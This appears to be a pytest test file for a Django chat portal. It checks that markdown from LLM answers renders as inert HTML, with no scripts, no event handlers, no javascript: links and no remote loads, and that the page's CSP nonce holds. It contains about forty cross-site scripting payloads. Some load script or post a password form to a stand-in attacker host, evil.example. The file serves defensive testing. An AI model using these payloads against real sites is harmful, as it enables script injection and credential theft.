"""LLM output is rendered inert: no script, no handler, no dangerous link, no remote load."""
from __future__ import annotations

from html.parser import HTMLParser
from http import HTTPStatus

import pytest
from django.urls import reverse

from portal.rendering import ALLOWED_TAGS, markdown_to_safe_html

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    '<svg><script>alert(1)</script></svg>',
    '<body onload="alert(1)">',
    '<div onmouseover="alert(1)">hover</div>',
    '<a href="javascript:alert(1)">click</a>',
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example/"><input name="pw"><button>送信</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<style>body{background:url(https://evil.example/x.png)}</style>',
    '<base href="https://evil.example/">',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![](http://evil.example/x.png)",
    "![tracker](https://evil.example/pixel.gif \"t\")",
    '![x](x" onerror="alert(1))',
    "[ref]: javascript:alert(1)\n\n[ref]",
    "<javascript:alert(1)>",
    "<https://evil.example/x.png>",
    "`<script>alert(1)</script>` and ```\n<script>alert(1)</script>\n```",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "<!-- <script>alert(1)</script> -->",
    '<a href="https://ok.example/" onclick="alert(1)">ok</a>',
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "> <script>alert(1)</script>\n> [x](javascript:alert(1))",
    "**<svg/onload=alert(1)>**",
    '<a href="data:text/html,<script>alert(1)</script>">d</a>',
]

SAFE_SCHEMES = ("http://", "https://", "mailto:", "#", "/")
REMOTE_LOADING = {"img", "script", "iframe", "object", "embed", "link", "style", "svg", "base",
                  "meta", "form", "input", "button", "audio", "video", "source", "math", "details"}


class Inspector(HTMLParser):
    """Collect every tag and attribute the browser would see."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def _problems(html: str, allowed: set[str] | None = None) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    problems = []
    for tag, attrs in inspector.tags:
        if allowed is not None and tag not in allowed:
            problems.append(f"tag <{tag}>")
        for name, value in attrs:
            value = (value or "").strip()
            if name.startswith("on") or name in ("style", "srcdoc", "formaction"):
                problems.append(f"attribute {name} on <{tag}>")
            if name in ("href", "src", "action", "data", "xlink:href") and value:
                if not value.lower().startswith(SAFE_SCHEMES):
                    problems.append(f"{name}={value!r} on <{tag}>")
    return problems


def test_there_are_at_least_thirty_payloads():
    assert len(set(PAYLOADS)) >= 30


@pytest.mark.parametrize("payload", PAYLOADS)
def test_rendered_answer_is_inert(payload):
    html = markdown_to_safe_html(payload)
    assert _problems(html, allowed=set(ALLOWED_TAGS)) == [], html
    inspector = Inspector()
    inspector.feed(html)
    for tag, attrs in inspector.tags:
        assert tag not in REMOTE_LOADING, html
        if tag == "a":
            href = dict(attrs).get("href") or ""
            assert href == "" or href.startswith(("http://", "https://", "mailto:")), html
            assert "nofollow" in (dict(attrs).get("rel") or ""), html


@pytest.mark.django_db
def test_payloads_stay_inert_on_the_chat_page(acknowledged_client, staff):
    from portal.models import ApprovedModel, Message, MessageRole
    from tests.factories import ConversationFactory

    conversation = ConversationFactory(user=staff, model=ApprovedModel.objects.first())
    combined = "\n\n".join(PAYLOADS)
    Message.objects.create(conversation=conversation, role=MessageRole.USER, content=combined, classification="IV")
    Message.objects.create(conversation=conversation, role=MessageRole.ASSISTANT, content=combined)
    response = acknowledged_client.get(reverse("chat:conversation", args=[conversation.pk]))
    assert response.status_code == HTTPStatus.OK
    html = response.content.decode()
    policy = response["Content-Security-Policy"]
    nonce = policy.split("'nonce-")[1].split("'")[0]
    inspector = Inspector()
    inspector.feed(html)
    for tag, attrs in inspector.tags:
        values = dict(attrs)
        if tag == "script":
            assert values.get("nonce") == nonce and values.get("src", "").startswith("/static/"), attrs
        assert tag not in {"iframe", "object", "embed", "img", "svg", "base", "meta"} or (
            tag == "meta" and "http-equiv" not in values
        ), (tag, attrs)
    # the page's own empty favicon (`data:,`) is the only data: URL
    assert _problems(html.replace('<link rel="icon" href="data:,">', "")) == []
    # the prompt is shown as text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
